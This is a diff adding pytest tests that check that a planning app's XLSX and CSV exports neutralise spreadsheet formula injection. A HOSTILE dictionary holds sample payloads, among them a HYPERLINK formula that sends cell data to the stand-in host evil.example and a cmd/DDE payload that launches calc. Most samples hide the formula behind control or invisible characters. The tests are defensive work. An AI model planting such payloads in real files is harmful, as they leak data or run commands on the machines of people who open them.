@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
+import re
 from zoneinfo import ZoneInfo
 
 import openpyxl
@@ -273,6 +274,120 @@ def test_a_changed_export_still_imports_the_change(plan, actions, pmo):
     assert (report.created, report.updated) == (0, 1)
     assert Action.objects.get(plan=plan, ref="T2").theme == "Workforce"
     assert Action.objects.get(plan=plan, ref="T1").requirement.startswith(RISKY)
+
+
+# Hostile text ----------------------------------------------------------------------------
+
+# Text that a spreadsheet would run, hidden behind what a guard looking only at the first
+# character misses. (PostgreSQL refuses NUL, so \x00 cannot reach an export.)
+HOSTILE = {
+    "control_then_formula": '\x01=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "controls_then_plus": "\x1f\x08+cmd|' /C calc'!A0",
+    "space_then_equals": " =1+1",
+    "no_break_space_then_equals": "\u00a0=1+1",
+    "zero_width_space_then_minus": "\u200b-2+3",
+    "byte_order_mark_then_equals": "\ufeff=1+1",
+    "direction_override_then_equals": "\u202e=1+1",
+    "delete_then_equals": "\x7f=1+1",
+    "c1_control_then_at": "\x9b@SUM(A1)",
+    "tab_then_equals": "\t=1+1",
+    "carriage_return_then_at": "\r@SUM(A1)",
+    "line_feed_then_equals": "\n=1+1",
+    "apostrophe_then_equals": "'=1+1",
+}
+# Characters no export may hold: controls (but tab and line breaks), direction overrides,
+# zero-width and byte-order marks.
+UNSAFE = re.compile(
+    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x84\x86-\x9f\u200b\u202a-\u202e\u2066-\u2069\ufeff]"
+)
+
+
+def runs_as_formula(value: str) -> bool:
+    """What Excel or LibreOffice may run: =, +, -, @ after any spacing, or a tab or CR first."""
+    if value[:1] in ("\t", "\r"):
+        return True
+    return value.lstrip(" \t\r\n\u00a0\u200b\ufeff\u202e")[:1] in ("=", "+", "-", "@")
+
+
+@pytest.fixture
+def hostile(request, plan, actions, lead):
+    """An action whose typed fields and latest narrative start with the hostile text; the
+    narrative as an older release could have stored it (the update form now cleans it)."""
+    value = request.param
+    action = actions["T2"]
+    action.theme, action.department, action.requirement = value, value, f"{value} then words"
+    action.save()
+    period = services.period_current(plan=plan)
+    update = services.update_submit(
+        action=action,
+        period=period,
+        author=action.action_lead,
+        status=Status.AMBER,
+        narrative="On plan",
+    )
+    WeeklyUpdate.objects.filter(pk=update.pk).update(narrative=value)
+    return value
+
+
+@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE.keys(), indirect=True)
+def test_xlsx_holds_no_formula_and_no_control_character(plan, hostile):
+    sheet = read_xlsx(exports.plan_xlsx(plan=plan, params=params()))
+
+    for row in sheet.iter_rows():
+        for cell in row:
+            assert cell.data_type != "f", cell.coordinate
+            if isinstance(cell.value, str):
+                assert not UNSAFE.search(cell.value), (cell.coordinate, cell.value)
+                if runs_as_formula(cell.value):
+                    assert cell.quotePrefix is True, (cell.coordinate, cell.value)
+    t2 = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "T2")
+    assert [t2[1].quotePrefix, t2[2].quotePrefix, t2[14].quotePrefix] == [
+        runs_as_formula(t2[1].value)
+    ] * 3
+
+
+@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE.keys(), indirect=True)
+def test_csv_holds_no_formula_and_no_control_character(plan, hostile):
+    rows = read_csv(exports.plan_csv(plan=plan, params=params()))
+
+    for row in rows:
+        for value in row:
+            assert not UNSAFE.search(value), value
+            assert not runs_as_formula(value), value
+    t2 = next(r for r in rows if r[0] == "T2")
+    assert t2[14] == t2[1] == t2[2]
+
+
+def test_a_control_character_before_a_formula_is_taken_out_and_the_formula_kept_as_text(
+    plan, actions
+):
+    actions["T2"].requirement = HOSTILE["control_then_formula"]
+    actions["T2"].save()
+    sheet = read_xlsx(exports.plan_xlsx(plan=plan, params=params()))
+    rows = read_csv(exports.plan_csv(plan=plan, params=params()))
+
+    cell = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "T2")[4]
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "s",
+        True,
+    )
+    assert next(r for r in rows if r[0] == "T2")[4] == (
+        '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    )
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE.keys(), indirect=True)
+def test_an_export_with_hostile_text_reimports_changing_nothing(plan, pmo, fmt, hostile):
+    data = getattr(exports, f"plan_{fmt}")(plan=plan, params=params())
+    before = plan_state(plan)
+
+    report = plan_import(plan=plan, data=data, filename=f"plan.{fmt}", by=pmo, dry_run=False)
+
+    assert report.ok, report.errors
+    assert (report.created, report.updated) == (0, 0)
+    assert plan_state(plan) == before
 
 
 # Filters --------------------------------------------------------------------------------
